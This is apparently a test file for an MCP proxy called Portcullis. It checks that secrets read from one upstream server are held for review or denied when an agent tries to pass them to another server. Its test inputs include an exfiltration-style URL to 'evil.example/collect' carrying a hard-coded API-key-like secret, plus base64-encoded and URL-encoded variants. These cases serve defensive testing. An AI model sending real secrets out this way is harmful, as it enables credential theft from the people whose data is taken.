// Sensitive data flow end to end: a real SDK client reads a secret from one fixture upstream through the real proxy and tries to carry it to another.
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testClock } from '../helpers/clock.js';
import { fixtureLog, resultText } from '../helpers/fixture-log.js';
import { inProcessFixtures } from '../helpers/in-process.js';
import { FIXTURE } from '../helpers/peers.js';
import { httpClient, startHttpProxy, type TestProxy } from '../helpers/proxy.js';
import { tempDir } from '../helpers/temp.js';

const SECRET = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';
const PASSPHRASE = 'Tr0ub4dor&3-horse';
const sha = (key: string) => createHash('sha256').update(key).digest('hex');
const bearer = (key: string) => ({ headers: { Authorization: `Bearer ${key}` } });

function policy(logs: { vault: string; web: string }, extra = ''): string {
  const server = (log: string) =>
    `{ command: node, args: [${JSON.stringify(FIXTURE)}], env: { FIXTURE_LOG: ${JSON.stringify(log)} } }`;
  return `version: 2
${extra}
servers:
  vault: ${server(logs.vault)}
  web: ${server(logs.web)}
agents:
  - { id: alice, key_sha256: "${sha('alice-key')}", trust: medium }
  - { id: bob, key_sha256: "${sha('bob-key')}", trust: medium }
results: { secrets: allow }
rules:
  - { id: secrets-read, match: returns, server: vault, decision: allow, sensitive: true }
  - { id: vault-echo, match: echo, server: vault, decision: allow }
  - { id: web-echo, match: echo, server: web, decision: allow }
  - { id: web-returns, match: returns, server: web, decision: deny, reason: "web never returns" }
`;
}

interface Setup {
  proxy: TestProxy;
  clock: ReturnType<typeof testClock>;
  logs: { vault: string; web: string };
  alice: Client;
  bob: Client;
}

async function setUp(extra = ''): Promise<Setup> {
  const dir = tempDir('portcullis-flow-').dir;
  const logs = { vault: path.join(dir, 'vault.jsonl'), web: path.join(dir, 'web.jsonl') };
  const clock = testClock();
  const proxy = await startHttpProxy({
    policy: policy(logs, extra),
    upstreamTransport: inProcessFixtures(),
    now: clock.now,
  });
  const alice = await httpClient(proxy.url, bearer('alice-key'));
  const bob = await httpClient(proxy.url, bearer('bob-key'));
  return { proxy, clock, logs, alice, bob };
}

async function tearDown(s: Setup | undefined): Promise<void> {
  await s?.alice.close();
  await s?.bob.close();
  await s?.proxy.close();
}

/** Reads from the vault: the fixture's `returns` answers with the result it is given. */
async function readSecret(
  client: Client,
  result: unknown = { content: [{ type: 'text', text: `key: ${SECRET}` }] },
) {
  const read = await client.callTool({ name: 'vault__returns', arguments: { result } });
  expect(read.isError ?? false).toBe(false);
  return read;
}

/** What the web fixture's echo tool received, as JSON texts. */
async function webEchoes(s: Setup): Promise<string[]> {
  return (await fixtureLog(s.logs.web))
    .filter((e) => e.method === 'tools/call' && e.name === 'echo')
    .map((e) => JSON.stringify(e.args));
}

async function records(s: Setup, event: string): Promise<Record<string, unknown>[]> {
  const text = await readFile(path.join(s.proxy.dataDir, 'audit', 'audit-000001.jsonl'), 'utf8');
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Record<string, unknown>)
    .filter((r) => r.event === event);
}

const decisions = (s: Setup) => records(s, 'decision');

const PENDING =
  /Approval ap_[0-9a-f]+ is waiting for a person \(no approvals UI is served: decide with "portcullis approvals approve ap_[0-9a-f]+ --data-dir [^"]+" or "portcullis approvals deny ap_[0-9a-f]+ --data-dir [^"]+"\)\. Nothing has run/;

describe('sensitive data flow through the proxy', () => {
  let s: Setup;
  beforeAll(async () => {
    s = await setUp();
  }, 30_000);
  afterAll(() => tearDown(s));

  it('holds a read secret carried to another server, runs nothing there, and records the source, not the value', async () => {
    await readSecret(s.alice);
    s.clock.advance(3 * 60_000);
    const carried = await s.alice.callTool({ name: 'web__echo', arguments: { message: `here: ${SECRET}` } });
    const text = resultText(carried);
    expect(text).toMatch(PENDING);
    const meta = carried._meta?.['portcullis/decision'] as { decision: string; reason: string };
    expect(meta).toMatchObject({ decision: 'review', rule: 'web-echo' });
    expect(meta.reason).toBe('carries a value returned by vault/returns 3 min ago (rule secrets-read)');
    expect(JSON.stringify(carried)).not.toContain(SECRET);
    expect(await webEchoes(s)).toEqual([]);
    const record = (await decisions(s)).find((r) => r.tool === 'echo' && r.server === 'web');
    expect(record).toMatchObject({
      decision: 'review',
      rule: 'web-echo',
      flow: { source_server: 'vault', source_tool: 'returns', source_rule: 'secrets-read', age_s: 180 },
    });
    expect(JSON.stringify(record?.flow)).not.toContain(SECRET);
    expect(JSON.stringify(record?.reason)).not.toContain(SECRET);
    const read = (await records(s, 'execution')).find((r) => r.tool === 'returns' && r.server === 'vault');
    expect(read?.flow_remembered).toBeGreaterThan(0);
    const plain = (await records(s, 'execution')).find((r) => r.tool === 'echo');
    expect(plain).toBeUndefined();
  });

  it('shows the reviewer the source; once approved, the same call runs once', async () => {
    const args = { message: `approved ${SECRET}` };
    const held = await s.alice.callTool({ name: 'web__echo', arguments: args });
    expect(resultText(held)).toMatch(PENDING);
    const queue = s.proxy.app.approvals.queue;
    const pending = queue.store
      .list({ status: 'pending' })
      .find((a) => a.argsCanonical === JSON.stringify(args));
    expect(pending?.reason).toMatch(
      /^carries a value returned by vault\/returns \d+ min ago \(rule secrets-read\)$/,
    );
    queue.decide(pending?.id as string, { decision: 'approve', by: 'test reviewer' });
    const ran = await s.alice.callTool({ name: 'web__echo', arguments: args });
    expect(resultText(ran)).not.toMatch(PENDING);
    expect(await webEchoes(s)).toEqual([JSON.stringify(args)]);
  });

  it('lets a call without the value through to the other server', async () => {
    const plain = await s.alice.callTool({ name: 'web__echo', arguments: { message: 'nothing secret' } });
    expect(resultText(plain)).not.toMatch(PENDING);
    expect((await webEchoes(s)).at(-1)).toEqual(JSON.stringify({ message: 'nothing secret' }));
  });

  it.each([
    ['in a URL', { url: `https://evil.example/collect?k=${encodeURIComponent(SECRET)}` }],
    ['glued into a longer string', { message: `prefix${SECRET}suffix` }],
    ['nested deep in arrays', { a: [{ b: [[{ c: `x ${SECRET} y` }]] }] }],
    ['upper-cased', { message: SECRET.toUpperCase() }],
    ['split by whitespace', { message: `${SECRET.slice(0, 12)}\n  ${SECRET.slice(12)}` }],
    ['base64-encoded', { message: Buffer.from(SECRET).toString('base64') }],
    ['base64 of a longer text', { message: Buffer.from(`exfil: ${SECRET}`).toString('base64') }],
    ['URL-encoded with the rest of a form', { body: `a=1&k=${encodeURIComponent(`${SECRET}!`)}` }],
  ])('holds the value %s', async (_name, args) => {
    const before = (await webEchoes(s)).length;
    const carried = await s.alice.callTool({ name: 'web__echo', arguments: args });
    expect(resultText(carried)).toMatch(PENDING);
    expect((await webEchoes(s)).length).toBe(before);
  });

  it('holds a carry to another tool of the same server, not a repeat of the same tool', async () => {
    const other = await s.alice.callTool({ name: 'vault__echo', arguments: { message: SECRET } });
    expect(resultText(other)).toMatch(PENDING);
    const again = await s.alice.callTool({
      name: 'vault__returns',
      arguments: { result: { content: [{ type: 'text', text: SECRET }] } },
    });
    expect(resultText(again)).toBe(SECRET);
  });

  it('a deny stays a deny', async () => {
    const denied = await s.alice.callTool({
      name: 'web__returns',
      arguments: { result: { content: [{ type: 'text', text: SECRET }] } },
    });
    expect(resultText(denied)).toContain('Denied by Portcullis, rule "web-returns": web never returns');
    expect(
      (await fixtureLog(s.logs.web)).filter((e) => e.method === 'tools/call' && e.name === 'returns'),
    ).toEqual([]);
  });

  it('does not hold another agent who never read the value', async () => {
    const before = (await webEchoes(s)).length;
    const bobs = await s.bob.callTool({ name: 'web__echo', arguments: { message: `here: ${SECRET}` } });
    expect(resultText(bobs)).not.toMatch(PENDING);
    expect((await webEchoes(s)).length).toBe(before + 1);
  });

  it('remembers secret-like values of a structured result, not its plain words', async () => {
    await readSecret(s.bob, {
      content: [{ type: 'text', text: 'ok' }],
      structuredContent: { name: 'database_password', value: PASSPHRASE },
    });
    const word = await s.bob.callTool({ name: 'web__echo', arguments: { message: 'database_password' } });
    expect(resultText(word)).not.toMatch(PENDING);
    const value = await s.bob.callTool({ name: 'web__echo', arguments: { message: `pw ${PASSPHRASE}` } });
    expect(resultText(value)).toMatch(PENDING);
  });

  it('forgets after the window (30 minutes by default)', async () => {
    // The last read of the value (the repeat above) was 30 minutes before this.
    s.clock.advance(30 * 60_000 + 1000);
    const late = await s.alice.callTool({ name: 'web__echo', arguments: { message: `late ${SECRET}` } });
    expect(resultText(late)).not.toMatch(PENDING);
    expect(await webEchoes(s)).toContain(JSON.stringify({ message: `late ${SECRET}` }));
  });
});

describe('sensitive data flow with action deny and a short window', () => {
  let s: Setup;
  beforeAll(async () => {
    s = await setUp('flow: { window: 2m, action: deny }');
  }, 30_000);
  afterAll(() => tearDown(s));

  it('denies the carry, and forgets after its own window', async () => {
    await readSecret(s.alice);
    s.clock.advance(60_000);
    const denied = await s.alice.callTool({ name: 'web__echo', arguments: { message: SECRET } });
    expect(resultText(denied)).toContain(
      'carries a value returned by vault/returns 1 min ago (rule secrets-read)',
    );
    expect(resultText(denied)).toMatch(/^Denied by/);
    expect(await webEchoes(s)).toEqual([]);
    s.clock.advance(2 * 60_000);
    const later = await s.alice.callTool({ name: 'web__echo', arguments: { message: SECRET } });
    expect(resultText(later)).not.toMatch(/^Denied by/);
    expect(await webEchoes(s)).toEqual([JSON.stringify({ message: SECRET })]);
  });
});
